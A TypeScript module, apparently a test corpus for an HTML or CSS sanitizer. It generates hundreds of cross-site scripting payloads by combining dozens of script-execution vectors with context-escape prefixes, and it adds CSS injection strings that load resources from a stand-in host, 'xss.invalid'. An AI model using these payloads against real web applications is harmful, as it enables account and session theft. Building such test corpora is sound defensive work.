/** The host to which payloads send what they steal. It does not exist. */
export const foreignHost = 'xss.invalid'

const call = (id: number) => `__xss(${id})`
const steal = `//${foreignHost}/?`

/** Ways to run a script; each receives the call that proves it. */
const vectors: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT >`,
  (script) => `<script src=${steal}></script><script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img src=x:x onerror="${script}">`,
  (script) => `<img/src=x/onerror=${script}>`,
  (script) => `<img \n src=x\tonerror\n=\n"${script}">`,
  (script) => `<img src=${steal} srcset="${steal} 1x">${script}`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  (script) => `<svg><set attributeName=href to=javascript:${script}></svg>`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style></table>`,
  (script) => `<math href="javascript:${script}">x</math>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:parent.${script}"></iframe>`,
  (script) => `<iframe src="data:text/html,<script>parent.${script}</script>"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="data:image/svg+xml,<svg onload=${script}>">`,
  (script) => `<details open ontoggle=${script}><summary>x</summary></details>`,
  (script) => `<video autoplay onloadstart=${script}><source src=x onerror=${script}></video>`,
  (script) => `<audio src=x onerror=${script}></audio>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<select autofocus onfocus=${script}></select>`,
  (script) =>
    `<form action="javascript:${script}"><button autofocus onfocus=${script}>x</button></form>`,
  (script) => `<button formaction="javascript:${script}">x</button>`,
  (script) => `<body onload=${script} onpageshow=${script}>`,
  (script) => `<marquee onstart=${script}>x</marquee>`,
  (script) =>
    `<div style="animation-name:x" onanimationstart=${script} onanimationend=${script}>x</div>`,
  (script) => `<style>@import "${steal}";</style><style onload=${script}></style>`,
  (script) => `<link rel=stylesheet href="${steal}" onload=${script} onerror=${script}>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="javascript:/a/-${script}//">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="java\tscript:${script}">x</a>`,
  (script) => `<a href="&#106;avascript&colon;${script}">x</a>`,
  (script) => `<a href="\u0001javascript:${script}">x</a>`,
  (script) => `<a href="vbscript:${script}">x</a>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  (script) => `<template><script>${script}</script></template><slot onslotchange=${script}>`,
  (script) => `<textarea></textarea><title><img title="</title><img src=x onerror=${script}>">`,
  (script) =>
    `<x onclick=${script} onpointerover=${script} tabindex=1 onfocus=${script} autofocus>x</x>`,
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => ` \n\tjavascript:${script}`,
  (script) => `data:text/html,<script>opener.${script}</script>`,
  (script) => `//${foreignHost}/%0a${script}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
]

/** Prefixes that close the attribute, element or comment into which the text is written. */
const exits: readonly string[] = [
  '',
  '">',
  "'>",
  '</title></textarea></style></noscript>',
  '</script>',
  '--><!-- -->',
  ']]>',
  '\\u0022\\u003e',
  '&quot;&gt;',
  '" autofocus onfocus=x ',
  '<!--<script>-->',
]

/** A text that runs `__xss(id)` wherever it is taken for HTML, an address or a script. */
export interface XssPayload {
  id: number
  text: string
}

/** Distinct payloads: every vector behind every exit. */
export const xssPayloads: readonly XssPayload[] = exits.flatMap((exit, index) =>
  vectors.map((vector, position) => {
    const id = index * vectors.length + position
    return { id, text: exit + vector(call(id)) }
  }),
)

/** Style sheets that try to leave their scope, to load, to run a script or to cover the page. */
export const cssPayloads: readonly string[] = xssPayloads.map(
  ({ id, text }, index) =>
    [
      `</style>${text}`,
      `p{background:url("javascript:${call(id)}")} </style >${text}`,
      `p{background:url(//${foreignHost}/${id});list-style:url(https://${foreignHost}/${id})}`,
      `@import "//${foreignHost}/${id}"; @import url(//${foreignHost}/${id});`,
      `} *{outline:7px solid rgb(1,2,3)!important} dialog *{background:url(//${foreignHost}/${id})}`,
      `@font-face{font-family:x;src:url(//${foreignHost}/${id})} *{font-family:x}`,
      `p{width:expression(${call(id)});behavior:url(//${foreignHost}/${id});-moz-binding:url(//${foreignHost}/${id})}`,
      `/*</style>${text}*/ p:before{content:"${text.replaceAll('"', '\\"')}"}`,
      `@media screen{}} body{position:fixed;inset:0;background:image-set("//${foreignHost}/${id}" 1x)}`,
      `\\3c/style\\3e ${text}`,
    ][index % 10] ?? text,
)
